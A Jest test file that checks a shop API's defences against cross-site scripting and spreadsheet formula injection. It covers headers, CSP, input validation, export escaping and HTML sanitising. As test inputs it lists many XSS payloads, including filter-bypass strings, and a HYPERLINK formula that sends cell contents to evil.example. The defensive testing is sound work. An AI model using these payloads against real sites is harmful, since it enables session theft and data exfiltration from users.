import { createHash, randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { strFromU8, unzipSync } from 'fflate';
import { createTestUser, signIn } from '../../factories/factories.ts';
import { cleanHtml, updateSettings } from '../../site/index.ts';
import { accounts, post } from '../../wallet/index.ts';
import { groupOf } from '../reference/call-groups.ts';
import { copyScript } from '../reference/frame.ts';
import { renderReference } from '../reference/reference-page.ts';
import { listRoutes } from '../serve.ts';
import { createTestApi } from '../test-api.ts';
import { giveFolder, newMember, upload } from '../uploads/uploads-for-tests.ts';
import { sendJson, sendRaw } from './attacker-for-tests.ts';

const test = await createTestApi();
await giveFolder(test);
const member = await newMember(test);
const { id } = await createTestUser(test.ctx, { group: 'operator' });
const operator = (await signIn(test.ctx, id)).token;
await updateSettings(test.ctx, { 'payment.bank': { holder: 'H', bank: 'B', account: '6222' } });
afterAll(() => test.close());

const script = '<script>alert(1)</script>';
const markup = '"><img src=x onerror=alert(1)>';

describe('what the API answers', () => {
  it('is never read as a page, whatever is asked and whoever asks', async () => {
    for (const { entry } of listRoutes(test.api.app)) {
      for (const token of ['', operator]) {
        const init = { method: entry.method.toUpperCase(), headers: { 'ba-user-token': token } };
        const { headers } = await sendRaw(test, `${entry.path}?lang=${encodeURIComponent(script)}`, init);
        const kind = headers.get('content-type') ?? '';
        expect([entry.path, kind]).toEqual([
          entry.path,
          expect.stringMatching(/^(?:application\/json|text\/event-stream)/),
        ]);
        expect(headers.get('x-content-type-options')).toBe('nosniff');
        expect(headers.get('content-security-policy')).toContain("default-src 'none'");
      }
    }
  });

  it.each<[string, RequestInit, number]>([
    [`/api/${encodeURIComponent(script)}`, {}, 404],
    [`/api/nowhere?x=${encodeURIComponent(script)}`, {}, 404],
    ['/api/user/logout', { method: 'DELETE' }, 405],
    ['/api/user/logout', { method: 'POST', body: script, headers: { 'content-type': 'application/json' } }, 400],
    ['/api/user/logout', { method: 'POST', body: script, headers: { 'content-type': 'text/html' } }, 415],
    [`/api/address/info?id=${encodeURIComponent(script)}`, {}, 200],
  ])('says nothing back of what was sent: %s %j', async (path, init, status) => {
    const answer = await sendRaw(test, path, { ...init, headers: { ...init.headers, 'think-lang': script } });
    expect(answer.status).toBe(status);
    expect(answer.headers.get('content-type')).toMatch(/^application\/json/);
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    expect(answer.text.toLowerCase()).not.toContain('<script');
    expect([...answer.headers.values()].join('\n').toLowerCase()).not.toContain('script>');
  });

  it('names no value in the sentence of a field', async () => {
    const body = {
      receiver: `${script}\n`.repeat(20),
      mobile: markup,
      province_id: script,
      city_id: 1,
      area_id: 1,
      address: '',
    };
    const { text } = await sendJson(test, '/api/address/save', body, member.token);
    expect(JSON.parse(text).data.error).toBe('invalid_input');
    expect(text).not.toMatch(/alert|onerror/);
  });
});

/** The one text that may run there stands once. */
function withoutOwnScript(page: string): string {
  const [before = '', after = '', ...more] = page.split(`<script>${copyScript}</script>`);
  expect(more).toEqual([]);
  return before + after;
}

describe('the reference page', () => {
  it('shows descriptions as text', () => {
    const [route] = listRoutes(test.api.app);
    if (!route) throw new Error('no route');
    const entry = { ...route.entry, summary: script, path: `/api/${markup}` as const };
    const routes = [{ ...route, entry, guard: { node: script as never } }];
    for (const area of [undefined, groupOf(routes[0] as never)]) {
      const page = renderReference(routes, 'en', { area, address: `https://x/${markup}`, perMinute: 1 });
      expect(withoutOwnScript(page)).not.toMatch(/<script|<img/i);
      expect(page).toContain('&#60;script&#62;');
    }
  });

  it('takes nothing from who asks and may run nothing', async () => {
    const path = `/api/reference?lang=${encodeURIComponent(markup)}&q=${encodeURIComponent(script)}`;
    const { headers, text } = await sendRaw(test, path, {
      headers: { 'think-lang': markup, cookie: `ba-lang=${markup}` },
    });
    expect(withoutOwnScript(text)).not.toMatch(/<script|alert\(|onerror/i);
    const policy = headers.get('content-security-policy') ?? '';
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("frame-ancestors 'none'");
    // What copies a line is named by its hash, and so is the style: nothing that gets in between runs, or looks like ours.
    const hash = `'sha256-${createHash('sha256').update(copyScript).digest('base64')}'`;
    expect(policy.match(/script-src[^;]*/g)).toEqual([`script-src ${hash}`]);
    expect(policy.match(/style-src[^;]*/g)).toEqual([expect.stringMatching(/^style-src 'sha256-[\w+/=]+'$/)]);
    expect(policy).not.toMatch(/unsafe|http|\*|'self'|data:/);
  });
});

describe('what a member leaves behind', () => {
  it.each(['nickname', 'username', 'qq', 'birthday', 'avatar'])('holds no markup as %s', async (field) => {
    const profile = { username: `user${member.id}`, nickname: 'a', [field]: `a${script}` };
    const { text } = await sendJson(test, '/api/account/profile', profile, member.token);
    expect(JSON.parse(text).data.fields).toHaveProperty(field);
  });

  it.each([
    'javascript:alert(1)',
    'data:image/svg+xml,<svg onload=alert(1)>',
    '//evil.example/a.png',
    '/\\evil.example/a.png',
    '/storage/a.png" onerror="alert(1)',
  ])('has no picture at %j', async (avatar) => {
    const { text } = await sendJson(
      test,
      '/api/account/profile',
      { username: `user${member.id}`, nickname: 'a', avatar },
      member.token,
    );
    expect(JSON.parse(text).data.fields).toHaveProperty('avatar');
  });

  it('comes back letter for letter in JSON, for the page to show as text: motto and address', async () => {
    const motto = `</script>${script}`;
    await sendJson(test, '/api/account/profile', { username: `user${member.id}`, nickname: 'a', motto }, member.token);
    expect((await test.get('/api/index/index', member)).data.userInfo.motto).toBe(motto);
    const place = { province_id: 110_000, city_id: 110_100, area_id: 110_105 };
    const body = { receiver: 'a', mobile: '13800138000', ...place, address: markup };
    expect((await test.post('/api/address/save', body, member)).data.address).toBe(markup);
  });

  it('as the name of a file is a name and no header, and the file no page', async () => {
    const answer = await upload(test, { token: member.token, name: `${markup}${script}.png` });
    expect(answer.data.file.url).toMatch(/^\/storage\/[\w/-]+\.png$/);
    expect(answer.data.file.name).not.toMatch(/[/\\]/);
  });
});

describe('a file for spreadsheets', () => {
  const memo = '=HYPERLINK("https://evil.example?"&A1,"click")<script>';
  beforeAll(async () => {
    const entries = [
      { account: accounts.userBalance(member.id), amount: 100 },
      { account: accounts.adjustment, amount: -100 },
    ];
    const facts = { ref: { type: 'test', no: '=1+1' }, idem: randomUUID(), entries, at: test.ctx.clock.now() };
    const worded = { key: 'memoAdjustment' as const, args: { reason: memo } };
    await test.ctx.db.transaction((tx) => post(tx, { type: 'adjustment', memo: worded, ...facts }));
  });
  const exported = async (format: string) => {
    const path = `/api/account/export?kind=balance&format=${format}`;
    const headers = { 'ba-user-token': member.token, 'think-lang': 'en' };
    const answer = await test.api.fetch(new Request(`http://shop.test${path}`, { headers }), {
      remoteAddress: '192.0.2.1',
    });
    expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename\*=UTF-8''[\w%.-]+$/);
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    return Buffer.from(await answer.arrayBuffer());
  };

  it('runs no formula that stands in a reason: CSV', async () => {
    const cells = (await exported('csv')).toString('utf8').split(/[\r\n,]+/);
    expect(cells.join(',')).toContain('HYPERLINK');
    expect(cells.filter((cell) => /^"?[=+@]/.test(cell))).toEqual([]);
    expect(cells).toContain("'=1+1");
  });

  it('runs no formula that stands in a reason: XLSX', async () => {
    const sheet = strFromU8(unzipSync(await exported('xlsx'))['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
    expect(sheet).toContain('HYPERLINK');
    expect(sheet).not.toMatch(/<f[ >]|<script/);
  });
});

describe('a text of the shop in HTML', () => {
  it.each([
    script,
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a>',
    '<p onclick="alert(1)" style="background:url(javascript:alert(1))">x</p>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<scr<script>ipt>alert(1)</script>',
    '<form action="https://evil.example"><button>x</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  ])('keeps nothing that runs or leads astray of %j', (html) => {
    const kept = cleanHtml(html);
    expect(kept).not.toMatch(/<(?:script|img|svg|iframe|math|style|form|base|meta|noscript|button)/i);
    expect(kept).not.toMatch(/<[^>]*(?:\son\w+=|javascript:|data:|style=|href="\/\/)/i);
  });
});
